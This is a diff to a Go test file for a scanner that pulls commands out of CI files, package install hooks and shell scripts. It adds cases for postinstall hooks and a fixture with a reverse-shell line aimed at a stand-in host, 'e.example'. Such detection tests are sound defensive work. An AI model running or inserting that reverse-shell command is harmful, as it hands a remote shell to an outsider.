@@ -22,6 +22,10 @@ func TestCommandsInPipelines(t *testing.T) {
 		{name: "Groovy", file: "Jenkinsfile", text: "steps { sh 'a b'\n echo 'no' }", want: "a b"},
 		{name: "Groovy in lines", file: "Jenkinsfile", text: "sh \"\"\"\na b\n\"\"\"", want: "a b"},
 		{name: "JSON", file: ".vscode/tasks.json", text: `{"command": "a | b", "label": "x"}`, want: "a | b"},
+		{name: "of a package, what runs unasked", file: "package.json", text: `{"name": "a b", "scripts": {"test": "x y", "postinstall": "a | b", "build": "x z"}}`, want: "a | b"},
+		{name: "of a package for PHP", file: "composer.json", text: `{"scripts": {"post-install-cmd": ["a b", "c d"], "test": "x y"}}`, want: "a b\nc d"},
+		{name: "a script that hands over a shell", file: "run.sh", text: "ls -l\nbash -i >& /dev/tcp/e.example/1 0>&1\n", want: "bash -i >& /dev/tcp/e.example/1 0>&1"},
+		{name: "a script that waits for a port", file: "wait.sh", text: "until echo > /dev/tcp/db.example/5432; do sleep 1; done\n", want: ""},
 		{name: "a hook", file: ".husky/pre-commit", text: "npx lint-staged\n", want: "npx lint-staged"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
@@ -35,7 +39,7 @@ func TestCommandsInPipelines(t *testing.T) {
 			}
 		})
 	}
-	for _, file := range []string{"ci.yml", "/r/workflows/a.yml", "README.md", "/r/.github/dependabot.yml", "package.json"} {
+	for _, file := range []string{"ci.yml", "/r/workflows/a.yml", "README.md", "/r/.github/dependabot.yml", "tsconfig.json", "/r/tests/a.sh"} {
 		if scriptDialect(file) != noScript {
 			t.Errorf("%s says what runs later", file)
 		}
